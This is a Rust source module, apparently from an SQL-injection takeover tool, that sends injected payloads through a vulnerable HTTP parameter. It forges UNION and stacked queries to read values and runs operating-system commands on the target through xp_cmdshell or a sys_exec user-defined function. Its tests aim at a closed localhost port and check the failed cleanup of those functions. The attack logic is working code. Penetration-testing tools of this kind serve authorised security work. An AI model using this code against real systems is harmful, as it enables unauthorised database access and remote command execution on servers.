//! Command execution against the target database
//!
//! Every takeover operation talks to the target through [`CommandExecutor`].
//! `silent` marks a best-effort call: failures are logged at debug level
//! instead of warned about, but still returned to the caller.

use crate::sqli::core::{Agent, CHAR_START, CHAR_STOP, DBMS};
use crate::sqli::request::Request;
use anyhow::Result;
use async_trait::async_trait;

#[async_trait]
pub trait CommandExecutor: Send + Sync {
    /// Evaluate `sql` in-band and return its scalar value
    async fn injected_query(&self, sql: &str, silent: bool) -> Result<Option<String>>;

    /// Run `sql` as an independent (stacked) statement
    async fn stacked_query(&self, sql: &str, silent: bool) -> Result<()>;

    /// Run an operating system command through an installed primitive
    async fn os_command(&self, cmd: &str, silent: bool) -> Result<()>;
}

/// UNION column layout used to carry in-band values
#[derive(Debug, Clone, Copy)]
pub struct UnionShape {
    pub count: usize,
    pub position: usize,
}

/// Executor driving the vulnerable HTTP parameter
pub struct InjectionExecutor<'a> {
    request: Request<'a>,
    agent: Agent,
    shape: UnionShape,
}

impl<'a> InjectionExecutor<'a> {
    pub fn new(request: Request<'a>, agent: Agent, shape: UnionShape) -> Self {
        Self {
            request,
            agent,
            shape,
        }
    }

    async fn send(&self, payload: &str, silent: bool) -> Result<String> {
        tracing::debug!("payload: {}", payload);

        let result = match self.request.send(payload).await {
            Ok(resp) if resp.is_server_error() => {
                Err(anyhow::anyhow!("target answered HTTP {} to payload", resp.status))
            }
            Ok(resp) => Ok(resp.body_text()),
            Err(e) => Err(e),
        };

        // silent only keeps the failure out of the operator's view
        if let Err(e) = &result {
            if silent {
                tracing::debug!("request failed: {}", e);
            } else {
                tracing::warn!("request failed: {}", e);
            }
        }
        result
    }

    fn os_statement(&self, cmd: &str) -> String {
        let escaped = cmd.replace('\'', "''");
        match self.agent.dbms {
            DBMS::MSSQL => format!("EXEC master..xp_cmdshell '{}'", escaped),
            _ => format!("SELECT sys_exec('{}')", escaped),
        }
    }
}

#[async_trait]
impl CommandExecutor for InjectionExecutor<'_> {
    async fn injected_query(&self, sql: &str, silent: bool) -> Result<Option<String>> {
        // full statements travel as scalar subqueries
        let expression = if sql.trim_start().to_uppercase().starts_with("SELECT ") {
            format!("({})", sql.trim())
        } else {
            sql.to_string()
        };
        let payload = self
            .agent
            .forge_union_query(&expression, self.shape.position, self.shape.count);

        let page = self.send(&payload, silent).await?;
        Ok(extract_marked_value(&page))
    }

    async fn stacked_query(&self, sql: &str, silent: bool) -> Result<()> {
        let payload = self.agent.forge_stacked_query(sql);
        self.send(&payload, silent).await.map(|_| ())
    }

    async fn os_command(&self, cmd: &str, silent: bool) -> Result<()> {
        let statement = self.os_statement(cmd);
        self.stacked_query(&statement, silent).await
    }
}

/// Value between the first start/stop marker pair, trimmed
pub fn extract_marked_value(page: &str) -> Option<String> {
    let start = page.find(CHAR_START)? + CHAR_START.len();
    let end = page[start..].find(CHAR_STOP)?;
    let value = page[start..start + end].trim();

    if value.is_empty() {
        None
    } else {
        Some(value.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::rate_limit::RateLimiter;
    use crate::core::scope::Scope;
    use crate::http::client::HttpClient;
    use crate::sqli::core::Technique;
    use crate::sqli::takeover::prompt::BatchPrompt;
    use crate::sqli::takeover::testing::StubProber;
    use crate::sqli::takeover::{BackendDescriptor, Session, Takeover};
    use std::collections::HashMap;
    use std::time::Duration;
    use url::Url;

    // nothing listens on port 1
    const REFUSED_TARGET: &str = "http://127.0.0.1:1/item.php?id=1";

    fn refused_client() -> HttpClient {
        let scope = Scope::new(REFUSED_TARGET).unwrap();
        HttpClient::new(scope, RateLimiter::new(0), None, HashMap::new(), Duration::from_secs(2)).unwrap()
    }

    #[test]
    fn test_extract_marked_value() {
        let page = "<td>qvxvq5.7.30-log qpkpq</td>";
        assert_eq!(extract_marked_value(page), Some("5.7.30-log".to_string()));
    }

    #[test]
    fn test_extract_missing_or_blank() {
        assert_eq!(extract_marked_value("no markers here"), None);
        assert_eq!(extract_marked_value("qvxvq qpkpq"), None);
        assert_eq!(extract_marked_value("qvxvq unterminated"), None);
    }

    #[tokio::test]
    async fn test_silent_failure_still_errors() {
        let client = refused_client();
        let request = Request::new(&client, Url::parse(REFUSED_TARGET).unwrap(), "id".to_string());
        let executor = InjectionExecutor::new(request, Agent::new(DBMS::MySQL), UnionShape { count: 1, position: 0 });

        assert!(executor.stacked_query("DROP TABLE anvilcmd", true).await.is_err());
        assert!(executor.injected_query("SELECT 1", true).await.is_err());
    }

    #[tokio::test]
    async fn test_unreachable_target_reports_failed_drops() {
        let client = refused_client();
        let request = Request::new(&client, Url::parse(REFUSED_TARGET).unwrap(), "id".to_string());
        let executor = InjectionExecutor::new(request, Agent::new(DBMS::MySQL), UnionShape { count: 1, position: 0 });
        let prober = StubProber::silent();
        let takeover = Takeover::new(&executor, &prober, &BatchPrompt);

        let mut session = Session::default();
        session.backend = BackendDescriptor::new(DBMS::MySQL);
        session.techniques.insert(Technique::Stacked);

        let report = takeover.cleanup(&session, false, None).await.unwrap();
        assert_eq!(report.statements.len(), 6);
        assert_eq!(report.suppressed, 6);
        assert!(report.udfs_dropped.is_empty());
        assert_eq!(report.udfs_failed, vec!["sys_exec", "sys_eval", "sys_bineval"]);
    }
}
